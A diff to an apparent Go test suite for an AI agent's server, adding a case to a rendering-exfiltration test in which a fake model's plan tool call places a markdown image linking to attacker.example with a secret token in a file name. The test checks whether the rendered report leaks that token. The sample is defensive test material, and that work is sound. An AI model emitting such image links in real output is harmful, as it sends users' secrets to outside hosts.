@@ -93,6 +93,20 @@ func TestRenderingExfiltration(t *testing.T) {
 		return renderVerdict(t, s, r, tok)
 	})
 
+	attempt(t, famRender, "image as a planned file name", func(t *testing.T) outcome {
+		tok := token(t)
+		plan := fmt.Sprintf(`{"items":[{"id":"1","text":"change it","status":"pending","files":["![](https://attacker.example/?t=%s)"]}]}`, tok)
+		s := newServer(t, []fakemodel.Turn{
+			{ToolCalls: []fakemodel.ToolCall{call("c1", "update_plan", plan)}, FinishReason: "tool_calls"},
+			{Text: "The plan is ready.", FinishReason: "stop"},
+		}, map[string]string{"main.go": "package main\n"}, serverOpts{})
+		r, err := s.run(t, map[string]any{"prompt": "plan a change", "mode": "plan"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return renderVerdict(t, s, r, tok)
+	})
+
 	attempt(t, famRender, "a written file closes the report's diff fence", func(t *testing.T) outcome {
 		tok := token(t)
 		// A context line " ```" of the diff closes the report's fence; the
